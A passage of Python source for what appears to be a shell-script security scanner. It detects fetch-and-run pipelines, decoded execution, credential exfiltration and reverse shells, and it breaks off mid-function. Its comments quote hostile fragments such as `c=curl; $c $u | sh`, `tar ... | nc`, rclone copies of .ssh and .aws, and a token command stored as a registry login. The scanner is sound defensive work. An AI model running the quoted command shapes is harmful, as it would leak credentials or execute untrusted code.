"""Shell scripts read through tree-sitter-bash: pipelines, substitutions, redirects, variables.

The parser never runs anything; it gives a syntax tree of what a shell would do. Commands
are resolved through simple variable indirection (`c=curl; $c $u | sh`), and the shapes
that matter are looked for structurally: a fetch feeding an interpreter (pipe, command or
process substitution, a variable), download-then-run, decode-into-interpreter, credential
files or secret variables handed to curl/wget/nc, /dev/tcp reverse shells.
"""
from __future__ import annotations

import posixpath

from ... import hosts as H
from ...matching import rx
from ...models import Confidence, Severity
from .. import common as c
from .. import fact_kinds as K
from .. import sink_table as T
from .. import user_data
from .base import FETCHERS, _parser, _walk, credential_command_goes_home, _CRED_COMMAND

SHELLS = T.names("shell", "shells")
INTERPRETERS = T.names("shell", "interpreters")
WRAPPERS = T.names("shell", "wrappers")
NET_SENDERS = T.names("shell", "net_senders")
DATA_FLAGS = T.names("shell", "data_flags")
HASH_CHECK = c.rx(r"(?i)(?:sha(?:1|256|512)sum\s+(?:-c|--check)|shasum\s+(?:-a\s*\d+\s+)?(?:-c|--check)|"
                  r"gpg\s+--verify|cosign\s+verify|minisign\s+-v|sha256sum\b[^\n]*\b[0-9a-f]{64}\b|[0-9a-f]{64}[^\n]*sha256sum|"
                  r"get-filehash|openssl\s+dgst)")
# The same check written out: a file's digest computed (`actual=$(sha256sum "$f" | awk ...)`) and a test
# comparing two hash-named values (`[ "$expected_hash" != "$actual_hash" ]`). Both must be there.
HASH_RUN = c.rx(r"(?i)\b(?:sha(?:1|256|384|512)sum|shasum|b2sum|openssl\s+(?:sha256|sha512))\s+(?:-a\s*\d+\s+)?[\"']?\$")
HASH_COMPARE = c.rx(r"(?i)\[\[?\s+[\"']?\$\{?\w*(?:hash|sum|digest|sha)\w*\}?[\"']?\s+(?:!=|==|=)\s+[\"']?\$\{?\w*(?:hash|sum|digest|sha)\w*\}?")
ENV_DUMPERS = T.names("shell", "env_dumpers")
_INTERESTING = frozenset({"variable_assignment", "pipeline", "command", "redirected_statement", "while_statement", "c_style_for_statement", "for_statement"})
DNS_TOOLS = T.names("shell", "dns_tools")


class ShellFlow:
    def __init__(self, text: str, context: dict | None = None) -> None:
        self.text = text
        self.data = text.encode("utf-8", "surrogatepass")
        self.ascii = len(self.data) == len(text)
        self.vars: dict[str, str] = {}
        self.var_flags: dict[str, set[str]] = {}
        self.downloads: dict[str, tuple[str, object]] = {}  # file name -> (url, node)
        self.heredocs: dict[str, str] = {}  # file name -> the here-document a script wrote to it
        self.cred_files: set[str] = set()  # files the script filled with a credential (token command output, a copied key)
        self.git_remotes: dict[str, str] = {}  # `git remote add NAME URL`: where a later `git push NAME` sends commits
        self.facts: dict[tuple[str, int], c.Fact] = {}
        self.doc_hosts = frozenset((context or {}).get("skill_hosts", ()))
        # The credential files the skill's own command line hands this script ($1 = .env): what
        # the script does with its positional arguments it does with those files.
        for n, path in (context or {}).get("argv_credentials", ())[:20]:
            self.vars[str(n)] = path
        self.hash_checked = HASH_CHECK.test(text) or (HASH_RUN.test(text) and HASH_COMPARE.test(text))
        self.parse_error = False
        self._parts: dict[tuple[int, int, int], tuple[str, list, list[str]]] = {}
        self._commands: list = []
        self._fetching: set[str] | None = None
        self._functions: dict[str, object] | None = None  # the script's own shell functions by name
        self._cred_functions: set[str] | None = None  # those whose output is a credential they read
        self._helper_depth = 0
        self._root = None
        self.nested = False  # a line read again on its own (reread_swallowed) does not recurse
        self.depth = 0  # code strings read again (eval, sh -c): at most MAX_DEPTH levels deep
        self.reread = 0  # how many code strings this flow has read again (at most MAX_REREAD)
        self.unattended = False  # the text runs with nobody watching (a git hook, a start-up file): what it sends counts
        self.written_scripts: list[tuple[str, object, str]] = []  # (destination, node, here-document) a script writes

    # -- offsets ----------------------------------------------------------------------------
    def off(self, b: int) -> int:
        return b if self.ascii else len(self.data[:b].decode("utf-8", "replace"))

    def emit(self, kind: str, node, message: str, severity: Severity, confidence: Confidence = Confidence.HIGH,
             url: str = "", lower_for_hash: bool = False, **props) -> None:
        start, end = self.off(node.start_byte), self.off(node.end_byte)
        fact = c.Fact(kind, start, max(end, start + 1), message, severity, confidence, {"analysis": "bash-syntax-tree", **props})
        if kind in (K.REMOTE_EXEC, K.CRED_EXFIL, K.HOST_DATA_EXFIL) and url:
            fact = c.apply_url_context(fact, url, self.doc_hosts)
        if lower_for_hash and self.hash_checked:
            fact = fact.lowered(2, "download checked against a pinned hash or signature")
        key = (kind, start)
        if key not in self.facts or self.facts[key].severity < fact.severity:
            self.facts[key] = fact

    # -- words -----------------------------------------------------------------------------
    def value(self, node) -> str:
        """The literal value of a word-like node, with known variables substituted."""
        t = node.type
        raw = node.text.decode("utf-8", "replace")
        if t == "raw_string":
            return raw[1:-1]
        if t in ("simple_expansion", "expansion"):
            name = _var_name(node)
            if name in self.vars:
                return self.vars[name]
            if t == "expansion":
                inner = raw.strip()[2:-1] if raw.strip().startswith("${") and raw.strip().endswith("}") else ""
                if inner.startswith(name) and inner[len(name):len(name) + 2] in (":-", ":="):
                    return inner[len(name) + 2:].strip("\"'")  # ${MIRROR:-https://host}: the default when unset
            return raw
        if t in ("string", "concatenation"):
            out = []
            for ch in node.children:
                if ch.type in ('"',):
                    continue
                if ch.type == "string_content":
                    out.append(ch.text.decode("utf-8", "replace"))
                else:
                    out.append(self.value(ch))
            return "".join(out) if node.children else raw.strip('"')
        if t == "word":
            return raw.replace("\\", "")
        if t == "command_substitution":
            cmds = [ch for ch in node.children if ch.type == "command"]
            if len(cmds) == 1:
                out = self.helper_output(cmds[0])
                if out is not None:
                    return out
                out = self.printed_escapes(cmds[0])
                if out is not None:
                    return out
        if t == "ansi_c_string" and "\\" in raw:  # $'\143\165\162\154': the text the escapes spell
            return c.unescape(raw[2:-1].encode("utf-8", "surrogatepass"))
        return raw

    def printed_escapes(self, cmd) -> str | None:
        """`$(printf '\143\165\162\154')`, `$(echo -e '\x63url')`: a word spelled as escapes (octal, hex,
        \\u) and printed back is that word; the name of a command hidden from a reader. None otherwise."""
        name_node = cmd.child_by_field_name("name")
        prog = name_node.text.decode("utf-8", "replace") if name_node is not None else ""
        if prog not in ("printf", "echo"):
            return None
        args = [a for a in cmd.children if a.type not in _NOT_ARGS][:4]
        words = [a.text.decode("utf-8", "replace") for a in args]
        if prog == "echo":
            if not words or words[0] not in ("-e", "-ne", "-en"):
                return None
            words = words[1:]
        if len(words) != 1 or "%" in words[0] or "\\" not in words[0] or len(words[0]) > 2000:
            return None
        return c.unescape(words[0].strip("'\"").encode("utf-8", "surrogatepass"))

    def functions(self) -> dict[str, object]:
        """The script's own shell functions by name, found once."""
        if self._functions is None:
            self._functions = {}
            root = None
            if b"()" in self.data or b"function" in self.data:
                root = self._root if self._root is not None else _parser().parse(self.data).root_node
            for n in _walk(root) if root is not None else ():
                if n.type == "function_definition" and len(self._functions) < 500:
                    name = n.child_by_field_name("name")
                    if name is not None:
                        self._functions.setdefault(name.text.decode("utf-8", "replace").lower(), n)
        return self._functions

    def helper_output(self, cmd) -> str | None:
        """What a call of the script's own one-line printing helper prints, its arguments put in:
        `cfg() { printf '%s/%s' "${XDG_CONFIG_HOME:-$HOME/.config}" "$1"; }` makes `$(cfg "g""h/hosts.yml")`
        the path `$HOME/.config/gh/hosts.yml`. None for anything else (a helper that does more than print)."""
        if self._helper_depth >= 2 or not self.functions():
            return None
        name_node = cmd.child_by_field_name("name")
        fn = self.functions().get(name_node.text.decode("utf-8", "replace").lower()) if name_node is not None else None
        body = fn.child_by_field_name("body") if fn is not None else None
        if body is None or any(ch.type not in ("{", "}", ";", "command", "comment", "(", ")") for ch in body.children):
            return None
        inner = [ch for ch in body.children if ch.type == "command"]
        iname = inner[0].child_by_field_name("name") if len(inner) == 1 else None
        prog = iname.text.decode("utf-8", "replace") if iname is not None else ""
        if prog not in ("printf", "echo"):
            return None
        args = [a for a in cmd.children if a.type not in _NOT_ARGS][:9]
        saved = {str(i): self.vars.get(str(i)) for i in range(1, 10)}
        self._helper_depth += 1
        try:
            given = [self.value(a) for a in args]
            for i in range(1, 10):
                if i <= len(given):
                    self.vars[str(i)] = given[i - 1]
                else:
                    self.vars.pop(str(i), None)
            words = [self.value(a) for a in inner[0].children if a.type not in _NOT_ARGS][:20]
        finally:
            self._helper_depth -= 1
            for k, v in saved.items():
                if v is None:
                    self.vars.pop(k, None)
                else:
                    self.vars[k] = v
        if prog == "echo":
            return " ".join(w for w in words if w not in ("-n", "-e", "-E"))[:2000]
        if not words or words[0].startswith("-"):
            return None  # `printf -v var`: assigns, prints nothing
        out = words[0]
        for w in words[1:]:
            k = min((i for i in (out.find("%s"), out.find("%b")) if i >= 0), default=-1)
            if k < 0:
                break
            out = out[:k] + w + out[k + 2:]
        return out.replace("\\n", "")[:2000]

    def credential_functions(self) -> set[str]:
        """The script's own functions whose output is a credential they read (`tok() { awk '/oauth_token/
        {print $2}' ~/.config/gh/hosts.yml; }`, a token command, or a call of such a function)."""
        if self._cred_functions is None:
            self._cred_functions = set()
            fns = self.functions()
            for _ in range(2):  # a function calling one found in the first pass
                for name, fn in fns.items():
                    if name in self._cred_functions:
                        continue
                    for m in _walk(fn):
                        if m.type == "command":
                            prog, _, vals = self.command_parts(m)
                            if _reads_credential(prog, vals) or prog in self._cred_functions:
                                self._cred_functions.add(name)
                                break
        return self._cred_functions

    def command_parts(self, cmd) -> tuple[str, list, list[str]]:
        """(program basename, argument nodes, argument values) with wrappers like sudo/env peeled off."""
        key = (cmd.start_byte, cmd.end_byte, len(self.vars))
        hit = self._parts.get(key)
        if hit is None:
            hit = self._parts[key] = self._command_parts(cmd)
        return hit

    def _command_parts(self, cmd) -> tuple[str, list, list[str]]:
        name_node = cmd.child_by_field_name("name")
        args = [ch for ch in cmd.children if ch.type not in ("command_name", "variable_assignment", "file_redirect", "herestring_redirect", "comment")]
        name = self.value(name_node.children[0]) if name_node is not None and name_node.children else ""
        vals = [self.value(a) for a in args]
        for _ in range(4):
            base = posixpath.basename(name.strip()).lower()
            if base not in WRAPPERS or (base in ("command", "type", "builtin") and vals[:1] in (["-v"], ["-V"])):
                break  # `command -v x` looks x up, runs nothing
            while vals and (vals[0].startswith("-") or "=" in vals[0] or vals[0].isdigit()):
                args, vals = args[1:], vals[1:]
                if base in ("sudo", "doas") and args and vals and vals[0] in ("root",):
                    args, vals = args[1:], vals[1:]
            if not vals:
                return base, [], []
            name, args, vals = vals[0], args[1:], vals[1:]
        return posixpath.basename(name.strip()).lower(), args, vals

    # -- driver ----------------------------------------------------------------------------
    def run(self) -> list[c.Fact]:
        tree = _parser().parse(self.data)
        root = self._root = tree.root_node
        self.parse_error = root.has_error
        from . import shapes as shell_shapes  # imports this module's names: loaded after it

        order = []
        cursor = root.walk()  # iterative pre-order with a tree cursor: document order, no recursion limit
        visited_children = False
        while True:
            if not visited_children:
                node = cursor.node
                if node.type in _INTERESTING:
                    order.append(node)
                if cursor.goto_first_child():
                    continue
            if cursor.goto_next_sibling():
                visited_children = False
                continue
            if not cursor.goto_parent():
                break
            visited_children = True
        for n in order:
            t = n.type
            if t == "variable_assignment":
                self.assignment(n)
            elif t == "pipeline":
                self.pipeline(n)
            elif t == "command":
                self._commands.append(n)
                self.command(n)
            elif t == "redirected_statement":
                self.redirected(n)
            elif t == "for_statement":
                self.for_loop(n)
            elif t in ("while_statement", "c_style_for_statement"):
                shell_shapes.endless_loop(self, n)
        shell_shapes.text_shapes(self)
        user_data.shell_shapes(self)
        if self.written_scripts and self.depth < MAX_DEPTH:
            self.installed_scripts()
        if not self.nested:
            self.reread_swallowed()
        facts = sorted(self.facts.values(), key=lambda f: (f.start, f.kind))
        if self.parse_error:
            facts = [c.Fact(f.kind, f.start, f.end, f.message, f.severity, f.confidence, {**f.properties, "parse-error": True}) for f in facts]
        return facts

    def reread_swallowed(self) -> None:
        """tree-sitter-bash sometimes reads a command as running on over a comment and the lines after it
        (`... | xargs rm --`, blank line, `# note`, `tar ... | nc ...` became one xargs command) without
        reporting an error. Each line such a command swallowed is read again on its own."""
        lines_done: set[int] = set()
        for n in self._commands:
            if n.start_point[0] == n.end_point[0] or not any(ch.type == "comment" for ch in n.children):
                continue
            lo, hi = n.start_byte, n.end_byte
            pos = self.data.find(b"\n", lo) + 1
            while 0 < pos < hi and len(lines_done) < 200:
                end = self.data.find(b"\n", pos)
                end = len(self.data) if end < 0 else end
                line = self.data[pos:end]
                if pos not in lines_done and line.strip() and not line.lstrip().startswith(b"#"):
                    lines_done.add(pos)
                    sub = ShellFlow(line.decode("utf-8", "replace") + "\n", None)
                    sub.doc_hosts, sub.nested = self.doc_hosts, True
                    shift = self.off(pos)
                    for f in sub.run():
                        key = (f.kind, f.start + shift)
                        moved = c.Fact(f.kind, f.start + shift, f.end + shift, f.message, f.severity, f.confidence, f.properties)
                        if key not in self.facts or self.facts[key].severity < moved.severity:
                            self.facts[key] = moved
                pos = end + 1

    def assignment(self, n) -> None:
        name_node = n.child_by_field_name("name")
        val_node = n.child_by_field_name("value")
        if name_node is None:
            return
        name = name_node.text.decode("utf-8", "replace")
        flags: set[str] = set()
        if val_node is not None:
            value = _program_lookup(self, val_node) or self.value(val_node)
            appended = any(ch.type == "+=" for ch in n.children)  # t+="rl": the value grows, a word split over lines
            if appended:
                value = self.vars.get(name, "") + value
                flags = set(self.var_flags.get(name, set()))
            self.vars[name] = value[:2000]
            flags |= self.substitution_flags(val_node)
        self.var_flags[name] = flags

    def for_loop(self, n) -> None:
        """`for chunk in $(base32 .env)`: the loop variable carries what its word list carries."""
        var = n.child_by_field_name("variable")
        if var is None:
            return
        flags: set[str] = set()
        listed = [ch for ch in n.children if ch.type in ("word", "string", "raw_string", "concatenation") and ch.start_byte > var.end_byte]
        if listed and len(listed) <= 50 and not any(ch.type == "command_substitution" for ch in n.children):
            # `for rc in ~/.bashrc ~/.zshrc`: the variable takes each listed word; a start-up file among them is
            # the one its writes are judged by, else the first
            values = [self.value(ch) for ch in listed]
            # (a credential folder among them, `for d in .ssh .gnupg .aws`, is the one a copy of "$HOME/$d" is judged by)
            self.vars[var.text.decode("utf-8", "replace")] = next((v for v in values if c.PERSISTENCE_PATH.test(v)),
                                                                  next((v for v in values if _CRED_DIR.test(v)), values[0]))[:2000]
        for ch in n.children:
            if ch.type == "command_substitution" and _lists_env_names(self, ch):
                flags.add("env-names")  # `for n in $(compgen -e)`: each name, whose value ${!n} is read
            if ch.type in ("command_substitution", "string", "concatenation", "simple_expansion", "expansion", "word"):
                # `for f in ~/.npmrc "$HOME/.pypirc" "$dir"/.env`: a listed path, quoted or joined, is read as one
                if ch.type in ("word", "string", "concatenation") and c.is_credential_path(self.value(ch)):
                    flags.add("credential")
                flags |= self.substitution_flags(ch)
        if flags:
            self.var_flags[var.text.decode("utf-8", "replace")] = flags

    def substitution_flags(self, node) -> set[str]:
        """'download'/'decoded' when a command or process substitution inside node fetches or decodes."""
        flags: set[str] = set()
        stack = [node]
        while stack:
            n = stack.pop()
            if n.type == "command":
                prog, _, vals = self.command_parts(n)
                if prog in FETCHERS or (prog in ("nc", "ncat") and vals) or prog in shell_shapes_fetching(self):
                    flags.add("download")
                elif _is_decoder(prog, vals):
                    flags.add("decoded")
                if _reads_credential(prog, vals) or prog in self.credential_functions():
                    flags.add("credential")
                if prog == "printenv" and any(c.is_secret_env_name(v) or "decoded" in self.substitution_flags(a)
                                              for a, v in zip(self.command_parts(n)[1], vals)):
                    flags.add("secret")  # `$(printenv AWS_SECRET_ACCESS_KEY)`, or a name decoded at run time
                if _dumps_env(prog, vals):
                    flags.add("environment")  # $(env), $(printenv): every variable and its value
            elif n.type in ("simple_expansion", "expansion"):
                name = _var_name(n)
                var = self.var_flags.get(name, set())
                flags |= var
                if c.is_secret_env_name(name) and name not in self.vars or n.text.startswith(b"${!") and "decoded" in var:
                    flags.add("secret")  # a secret variable's value (`$AWS_SECRET_ACCESS_KEY`), or one whose name was decoded
                if "env-names" in var and n.text.startswith(b"${!"):
                    flags.add("environment")  # ${!n} over the environment's names: each variable's value
            stack.extend(n.children)
        return flags

    def pipeline(self, n) -> None:
        cmds = _stages(n)
        seen: set[str] = set()
        first_url = ""
        reads_cred = False
        dumps_env = False
        for node in cmds:
            cmd = _inner_command(node)
            if cmd is None:
                seen |= self.substitution_flags(node)
                reads_cred = reads_cred or "credential" in seen
                # a group or subshell stage (`{ printf ...; env; } | curl --data-binary @-`): what its commands print is the pipe's input
                dumps_env = dumps_env or "environment" in seen
                continue
            prog, args, vals = self.command_parts(cmd)
            if seen & {"download", "decoded"} and _reads_stdin_program(prog, vals):
                if "download" in seen:
                    self.emit(K.REMOTE_EXEC, n, f"Remote content piped into {prog}", Severity.CRITICAL, url=first_url)
                else:
                    self.emit(K.DECODE_EXEC, n, f"Decoded content piped into {prog}", Severity.CRITICAL)
            if prog in NET_SENDERS and (reads_cred or dumps_env) and _sends_stdin(prog, vals):
                url = next((v for v in vals if "://" in v), "")
                if reads_cred:
                    self.emit(K.CRED_EXFIL, n, f"Credential file contents piped to {prog}", Severity.CRITICAL, url=url)
                else:
                    self.emit(K.CRED_EXFIL, n, f"The whole environment piped to {prog}", Severity.HIGH, url=url)
            if prog in FETCHERS or (prog in ("nc", "ncat") and len(vals) >= 2 and not reads_cred) or prog in shell_shapes_fetching(self):
                seen.add("download")
                first_url = first_url or next((v for v in vals if "://" in v), "")
            if _is_decoder(prog, vals):
                seen.add("decoded")
            if prog in ("echo", "printf", "cat") or prog in ENV_DUMPERS:
                seen |= self.substitution_flags(cmd)
                reads_cred = reads_cred or "credential" in seen
                dumps_env = dumps_env or "environment" in seen  # printf "$o" with o gathered from ${!n} over the environment
            if prog in ("cat", "tar", "zip", "base64", "gzip", "xxd", "head", "tail", "sed", "awk") and any(c.is_credential_path(v) for v in vals):
                reads_cred = True
            if _archives_credentials(prog, vals):
                reads_cred = True
            if prog in ENV_DUMPERS and not vals:
                dumps_env = True
            if _is_credential_command(prog, vals):
                reads_cred = True
        if self.unattended and len(cmds) >= 2:
            self.unattended_send(n, cmds)
        progs = [self.command_parts(x)[0:3:2] for x in (_inner_command(node) for node in cmds) if x is not None]
        has_shell = any(p in SHELLS and (not v or "-i" in v or v == ["-"]) for p, v in progs)
        if has_shell and any(p in ("nc", "ncat", "netcat", "telnet", "socat") or (p == "openssl" and "s_client" in v) for p, v in progs):
            self.emit(K.REVERSE_SHELL, n, "A shell piped to or from a network connection (reverse shell)", Severity.CRITICAL)

    def unattended_send(self, n, cmds: list) -> None:
        """Unattended code (a hook, a start-up file) piping what earlier stages print (a staged diff, a
        file, the remote's URL) into a sender that uploads its input: local data leaves on every run."""
        last = _inner_command(cmds[-1])
        if last is None:
            return
        prog, _, vals = self.command_parts(last)
        if prog not in NET_SENDERS or not _sends_stdin(prog, vals):
            return
        url = next((v for v in vals if "://" in v), "")
        host = H.host_of(url) if url else next((v for v in vals if "." in v and not v.startswith("-")), "")
        if not host or H.is_private_host(host):
            return
        known = H.is_known_service(host)
        self.emit(K.HOST_DATA_EXFIL, n, f"Sends what the earlier commands print to {host}, with nobody watching",
                  Severity.MEDIUM if known else Severity.HIGH, Confidence.MEDIUM, url=url)

    def command(self, cmd) -> None:
        prog, args, vals = self.command_parts(cmd)
        if not prog:
            return
        runs_code = prog in SHELLS or prog in INTERPRETERS or prog in ("eval", "source", ".")
        name_node = cmd.child_by_field_name("name")
        if (not runs_code and args and name_node is not None and name_node.children
                and name_node.children[0].type in ("simple_expansion", "expansion", "command_substitution")
                and "decoded" in self.substitution_flags(name_node)):
            # `z=$(echo ZXZhbAo= | base64 -d); $z "$c"`: a program whose very name is decoded at run time (eval,
            # sh) is hidden from a reader; what it is handed is run
            self.emit(K.DECODE_EXEC, cmd, "A command whose name is decoded at run time runs its arguments", Severity.CRITICAL)
        if prog == "eval" or prog in SHELLS:
            self.code_string(cmd, prog, args, vals)
        if runs_code:
            for a in args:
                flags = self.substitution_flags(a)
                if "download" in flags:
                    self.emit(K.REMOTE_EXEC, cmd, f"{prog} runs content fetched from the network", Severity.CRITICAL,
                              url=_first_url(self.value(a)) or _first_url(self.vars_text(a)))
                elif "decoded" in flags:
                    self.emit(K.DECODE_EXEC, cmd, f"{prog} runs decoded content", Severity.CRITICAL)
            script = next((v for v in vals if not v.startswith("-")), "")
            if prog in ("powershell", "pwsh"):  # `powershell -ExecutionPolicy Bypass -File x.ps1`: the script follows -File
                low = [v.lower() for v in vals]
                at = next((k for k, v in enumerate(low) if v in ("-file", "-f", "/file")), -1)
                script = vals[at + 1] if 0 <= at < len(vals) - 1 else ""
            if script and prog != "eval" and c.is_data_file(script) and not any(v in ("-c", "-e", "-m") for v in vals):
                self.emit(K.DECODE_EXEC, cmd, f"{prog} runs a data file as code ({posixpath.basename(script)}): a payload kept beside the script",
                          Severity.HIGH, Confidence.MEDIUM)
            if script and _same_file(script, self.downloads):
                url, _ = self.downloads[_key(script)]
                self.emit(K.REMOTE_EXEC, cmd, f"A downloaded file is run by {prog}", Severity.CRITICAL, url=url, lower_for_hash=True)
            if prog in SHELLS and "-i" in vals and cmd.parent is not None and b"/dev/tcp/" in cmd.parent.text:
                self.emit(K.REVERSE_SHELL, cmd, "Interactive shell wired to a /dev/tcp socket", Severity.CRITICAL)
        if _same_file(prog, self.downloads) and prog not in FETCHERS:
            url, _ = self.downloads[_key(prog)]
            self.emit(K.REMOTE_EXEC, cmd, "A downloaded file is made executable and run", Severity.CRITICAL, url=url, lower_for_hash=True)
        if prog in FETCHERS:
            self.fetch(cmd, prog, vals)
        if prog.removesuffix(".exe") in ("bitsadmin", "certutil"):
            # Windows' own downloaders: `bitsadmin /transfer job URL DEST`, `certutil -urlcache -f URL DEST`; the
            # file saved is a download (run later by powershell -File, cmd, start: remote code run)
            at = next((k for k, v in enumerate(vals) if "://" in v), -1)
            low = " ".join(vals).lower()
            if 0 <= at < len(vals) - 1 and ("/transfer" in low or "/addfile" in low or "-urlcache" in low or "-verifyctl" in low):
                self.downloads[_key(vals[at + 1].replace("\\", "/"))] = (vals[at], cmd)
        if prog in DNS_TOOLS and args:
            if any(self.substitution_flags(a) & {"credential", "secret"} for a in args):
                self.emit(K.CRED_EXFIL, cmd, f"{prog} looks up a name built from credential data (DNS exfiltration)", Severity.CRITICAL)
        if prog in ("nc", "ncat", "netcat") and any(v in ("-e", "-c", "--exec", "--sh-exec") for v in vals):
            self.emit(K.REVERSE_SHELL, cmd, f"{prog} hands a shell to a network peer", Severity.CRITICAL)
        if prog == "socat" and any("exec:" in v.lower() or "system:" in v.lower() for v in vals) and any("tcp" in v.lower() for v in vals):
            self.emit(K.REVERSE_SHELL, cmd, "socat connects a shell to a TCP peer", Severity.CRITICAL)
        if prog in ("cp", "mv", "install", "rsync", "ditto", "ln") and len(vals) >= 2 and not any(":" in v for v in vals) and (
                any(c.is_credential_path(v) for v in vals[:-1]) or any("credential" in self.substitution_flags(a) for a in args[:-1])):
            self.cred_files.add(_key(vals[-1]))  # `cp -R "$HOME/$f" stage/` with f looping over .ssh .netrc ...
        if prog == "git":
            self.git_push(cmd, vals)
        if prog in _PACKAGE_TOOLS:
            self.package_source(cmd, prog, args, vals)
        if prog in ("tar", "zip", "7z") and (any(c.is_strong_credential_path(v) for v in vals) or _archives_credentials(prog, vals)):
            out = next((vals[i + 1] for i, v in enumerate(vals[:-1]) if v in ("-f", "-cf", "-czf", "-zcf", "-cjf", "czf", "cf") or (v.startswith("-") and v.endswith("f"))), "")
            if prog in ("zip", "7z") and vals:
                out = next((v for v in vals if not v.startswith("-")), out)
            if out:
                self.cred_files.add(_key(out))
        if prog in ("scp", "rsync", "sftp") and any(c.is_strong_credential_path(v) for v in vals) and any(":" in v for v in vals):
            self.emit(K.CRED_EXFIL, cmd, f"Credential files copied off the machine with {prog}", Severity.CRITICAL)
        if _cloud_copy(prog, vals):
            words = [v for v in vals if not v.startswith("-")]
            dest = words[-1]
            if not dest.startswith(("/", "~", ".", "$")) and (":" in dest) and any(
                    _CRED_DIR.test(v.rstrip("/")) or c.is_strong_credential_path(v) for v in words[1:-1]):
                # `for d in .ssh .aws; do rclone copy "$HOME/$d" "remote:$(whoami)/$d"`: whole credential folders copied
                # to a remote store (rclone/aws s3/gsutil/azcopy), wherever the remote points
                self.emit(K.CRED_EXFIL, cmd, f"Credential folders copied off the machine with {prog}", Severity.CRITICAL)
        if prog in INTERPRETERS and "-c" in vals:
            code = vals[vals.index("-c") + 1] if vals.index("-c") + 1 < len(vals) else ""
            if "socket" in code and ("dup2" in code or "pty.spawn" in code or "subprocess" in code):
                self.emit(K.REVERSE_SHELL, cmd, f"{prog} one-liner connects a socket to a shell", Severity.CRITICAL)

    def code_string(self, cmd, prog: str, args: list, vals: list[str]) -> None:
        """`eval "$a$b $u $p"`, `bash -c '...'`: the string, its variables put in, is shell code; it is
        read again as a script (at most MAX_DEPTH levels) and what it does is reported on this command."""
        if self.depth >= MAX_DEPTH or self.reread >= MAX_REREAD:
            return
        if prog == "eval":
            code = " ".join(vals)
        else:
            i = next((k for k, v in enumerate(vals) if v in ("-c", "-lc", "-ic", "-ec", "-xc")), -1)
            if i < 0 or i + 1 >= len(vals):
                return
            code = vals[i + 1]
        if len(code) < 8 or len(code) > 20000 or "$(" not in code and "|" not in code and ">" not in code and "<" not in code \
                and not any(w in code for w in ("curl", "wget", "nc ", "eval", "base64")):
            return
        self.reread += 1
        sub = ShellFlow(code, None)
        sub.doc_hosts, sub.nested, sub.depth = self.doc_hosts, True, self.depth + 1
        try:
            found = sub.run()
        except (RecursionError, MemoryError, ValueError):
            return
        for f in found:
            if f.kind not in _CODE_STRING_KINDS:
                continue
            self.emit_fact(cmd, f, f"{f.message} (in the code string {prog} runs)")

    def installed_scripts(self) -> None:
        """A here-document written to a git hook, a start-up file or a file the script makes executable
        (or that starts with #!) is code that runs later, a hook or start-up file unattended: it is read
        as a script, and what it would do is reported on the lines that write it."""
        made_exec = set()
        for n in self._commands:
            prog, _, vals = self.command_parts(n)
            if prog == "chmod" and vals and any("+x" in v or (v.isdigit() and len(v) >= 3 and int(v[-3]) & 1) for v in vals[:-1]):
                made_exec.update(_key(v) for v in vals[1:])
        for dest, node, body in self.written_scripts[:20]:
            base = _key(dest)
            unattended = base in _GIT_HOOKS or "/hooks/" in dest.replace("\\", "/") or c.PERSISTENCE_PATH.test(dest)
            if not (unattended or base in made_exec or body.lstrip().startswith("#!")):
                continue
            sub = ShellFlow(body, None)
            sub.doc_hosts, sub.nested, sub.depth, sub.unattended = self.doc_hosts, True, self.depth + 1, unattended
            try:
                found = [f for f in sub.run() if f.kind in _CODE_STRING_KINDS]
            except (RecursionError, MemoryError, ValueError):
                found = []
            where = f"the {'hook' if base in _GIT_HOOKS or '/hooks/' in dest else 'script'} it installs ({dest[:80]}{', run unattended' if unattended else ''})"
            for f in found:
                self.emit_fact(node, f, f"{f.message} (in {where})")

    def emit_fact(self, node, f: c.Fact, message: str) -> None:
        """A fact found in a string read again, placed on the node that runs the string."""
        start, end = self.off(node.start_byte), self.off(node.end_byte)
        moved = c.Fact(f.kind, start, max(end, start + 1), message, f.severity, f.confidence, dict(f.properties))
        key = (f.kind, start)
        if key not in self.facts or self.facts[key].severity < moved.severity:
            self.facts[key] = moved

    def package_source(self, cmd, prog: str, args: list, vals: list[str]) -> None:
        """Where a package tool installs from and whom it authenticates to. `npm config set
        //HOST/:_authToken "$(gh auth token)"` stores a credential the script read as the token every
        later install sends to HOST; `npm install --registry https://HOST/...` (or `npm config set
        registry`) takes every package from HOST, an attack when HOST imitates a brand or is a bare IP."""
        words = [v for v in vals if not v.startswith("-")]
        if words[:2] == ["config", "set"] or words[:1] == ["set"] and prog in ("npm", "pnpm"):
            i = vals.index("set")
            rest = [(a, v) for a, v in zip(args[i + 1:], vals[i + 1:]) if not v.startswith("-")]
            if not rest:
                return
            key, value_args = rest[0][1], [a for a, _ in rest[1:]]
            if "=" in key and not value_args:
                key, value_args = key.split("=", 1)[0], [rest[0][0]]
            url = _registry_url(key) or next((u for u in (_first_url(self.value(a)) for a in value_args) if u), "")
            if key.lower().rsplit(":", 1)[-1] in ("registry", "index-url", "extra-index-url") and url:
                self.lookalike_index(cmd, url, f"{prog} config sets the package registry")
            if url and any("credential" in self.substitution_flags(a) for a in [rest[0][0], *value_args]):
                src = cmd.text.decode("utf-8", "replace") + " " + self.vars_text(cmd)
                if not credential_command_goes_home(src, url):
                    self.emit(K.CRED_EXFIL, cmd, f"{prog} config stores a credential the script read as the login for "
                              f"{H.host_of(url)}: every later install sends it there", Severity.CRITICAL, url=url)
            return
        for i, v in enumerate(vals):
            flag, eq, inline = v.partition("=")
            if flag in _INDEX_OPTIONS:
                url = inline if eq else (vals[i + 1] if i + 1 < len(vals) else "")
                if "://" in url:
                    self.lookalike_index(cmd, _first_url(url) or url, f"{prog} installs packages from an index")

    def lookalike_index(self, cmd, url: str, what: str) -> None:
        host = H.host_of(url)
        if not host or H.is_private_host(host):
            return
        brand = H.look_alike_brand(host)
        if brand or H.is_ip(host):
            self.emit(K.REMOTE_EXEC, cmd, f"{what} on {host}" + (f", a look-alike of {brand}'s domains" if brand else ", a bare IP address"),
                      Severity.HIGH, Confidence.MEDIUM)

    def git_push(self, cmd, vals: list[str]) -> None:
        """`git push https://host/repo.git` (or to a remote added with `git remote add`) after the script
        copied credential files into a folder: the push is the upload, a commit the envelope."""
        words = [v for v in vals if not v.startswith("-")]
        if words[:2] == ["remote", "add"] and len(words) >= 4:
            self.git_remotes[words[2]] = words[3]
            return
        if "push" not in words or not self.cred_files:
            return
        after = words[words.index("push") + 1:]
        url = next((v for v in after if "://" in v or v.startswith("git@")), "") or (self.git_remotes.get(after[0], "") if after else "")
        if not url:
            return
        url = _first_url(url) or ("https://" + url[4:].replace(":", "/", 1) if url.startswith("git@") else url)
